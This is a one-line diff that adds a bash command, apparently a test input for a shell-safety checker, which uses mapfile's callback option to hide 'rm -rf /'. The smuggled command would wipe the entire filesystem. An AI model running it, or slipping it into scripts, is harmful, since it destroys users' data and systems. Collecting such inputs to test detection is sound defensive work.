@@ -1,0 +1,1 @@
+mapfile -C 'rm -rf /' -c 1 < f
